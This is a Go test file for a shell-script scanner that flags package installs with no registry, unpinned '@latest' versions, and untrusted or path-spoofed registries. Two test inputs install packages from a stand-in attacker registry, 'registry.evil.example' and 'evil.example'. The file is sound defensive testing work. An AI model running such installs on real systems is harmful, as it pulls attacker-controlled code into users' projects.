package scanner

import (
	"context"
	"strings"
	"testing"

	"github.com/jbovet/oxidized-skills/internal/config"
	"github.com/jbovet/oxidized-skills/internal/finding"
)

func scanPackages(t *testing.T, cfg *config.Config, script string) finding.ScanResult {
	t.Helper()
	dir := t.TempDir()
	writeSkillFile(t, dir, "install.sh", script)
	return PackageInstallScanner{}.Scan(context.Background(), dir, cfg)
}

func TestPackageScanner_InstallWithoutRegistry(t *testing.T) {
	tests := []struct {
		line string
		rule string
	}{
		{"npm install lodash", "pkg/F1-npm"},
		{"npm i lodash", "pkg/F1-npm"},
		{"npm add lodash", "pkg/F1-npm"},
		{"bun add zod", "pkg/F1-bun"},
		{"bun install", "pkg/F1-bun"},
		{"pip install requests", "pkg/F1-pip"},
		{"pip3 install requests", "pkg/F1-pip"},
	}

	for _, tt := range tests {
		result := scanPackages(t, config.Default(), tt.line+"\n")
		if !hasRule(result.Findings, tt.rule) {
			t.Errorf("%q: expected %s, got %v", tt.line, tt.rule, ruleIDs(result.Findings))
		}
	}
}

func TestPackageScanner_ExplicitRegistrySuppressesF1(t *testing.T) {
	tests := []string{
		"npm install lodash --registry https://registry.npmjs.org",
		"npm install lodash --registry=https://registry.npmjs.org",
		"pip install requests --index-url https://pypi.org/simple/",
		"pip install requests -i https://pypi.org/simple/",
	}

	for _, line := range tests {
		result := scanPackages(t, config.Default(), line+"\n")
		for _, id := range ruleIDs(result.Findings) {
			if strings.HasPrefix(id, "pkg/F1") {
				t.Errorf("%q: explicit registry should suppress F1, got %v", line, ruleIDs(result.Findings))
			}
		}
	}
}

func TestPackageScanner_UnpinnedLatest(t *testing.T) {
	result := scanPackages(t, config.Default(), "npm install lodash@latest\n")

	if !hasRule(result.Findings, "pkg/F2-unpinned") {
		t.Errorf("expected pkg/F2-unpinned, got %v", ruleIDs(result.Findings))
	}
	// The same line is also an install without a registry.
	if !hasRule(result.Findings, "pkg/F1-npm") {
		t.Errorf("expected pkg/F1-npm on the same line, got %v", ruleIDs(result.Findings))
	}
}

func TestPackageScanner_PinnedVersionNoF2(t *testing.T) {
	result := scanPackages(t, config.Default(), "npm install lodash@4.17.21 --registry https://registry.npmjs.org\n")
	if hasRule(result.Findings, "pkg/F2-unpinned") {
		t.Errorf("pinned version should not fire F2, got %v", ruleIDs(result.Findings))
	}
}

func TestPackageScanner_RegistryAllowlist(t *testing.T) {
	cfg := config.Default() // registry.npmjs.org is trusted

	trusted := scanPackages(t, cfg, "npm install lodash --registry https://registry.npmjs.org\n")
	if hasRule(trusted.Findings, "pkg/F3-registry") {
		t.Errorf("trusted registry should not fire F3, got %v", ruleIDs(trusted.Findings))
	}

	untrusted := scanPackages(t, cfg, "npm install lodash --registry https://registry.evil.example\n")
	f3 := findByRule(untrusted.Findings, "pkg/F3-registry")
	if f3 == nil {
		t.Fatalf("expected pkg/F3-registry, got %v", ruleIDs(untrusted.Findings))
	}
	if !strings.Contains(f3.Message, "https://registry.evil.example") {
		t.Errorf("F3 message should name the offending URL, got %q", f3.Message)
	}
	if f3.Severity != finding.SeverityWarning {
		t.Errorf("expected warning severity, got %s", f3.Severity)
	}
}

func TestPackageScanner_RegistryHostNotSpoofableViaPath(t *testing.T) {
	// The allowlisted name appears in the URL path; the actual host is
	// evil.example and must be rejected.
	line := "npm install x --registry https://evil.example/registry.npmjs.org/\n"
	result := scanPackages(t, config.Default(), line)

	if !hasRule(result.Findings, "pkg/F3-registry") {
		t.Errorf("path-embedded allowlist name must not pass, got %v", ruleIDs(result.Findings))
	}
}

func TestPackageScanner_CommentsAndMarkersSkipped(t *testing.T) {
	script := "# npm install lodash\n" +
		"npm install lodash # audit:ignore\n"
	result := scanPackages(t, config.Default(), script)

	if len(result.Findings) != 0 {
		t.Errorf("expected no findings, got %v", ruleIDs(result.Findings))
	}
}

func TestPackageScanner_FilesScannedCount(t *testing.T) {
	dir := t.TempDir()
	writeSkillFile(t, dir, "a.sh", "echo a")
	writeSkillFile(t, dir, "b.bash", "echo b")
	writeSkillFile(t, dir, "doc.md", "npm install badness")

	result := PackageInstallScanner{}.Scan(context.Background(), dir, config.Default())
	if result.FilesScanned != 2 {
		t.Errorf("expected 2 shell files scanned, got %d", result.FilesScanned)
	}
	if len(result.Findings) != 0 {
		t.Errorf("markdown content must not be scanned, got %v", ruleIDs(result.Findings))
	}
}
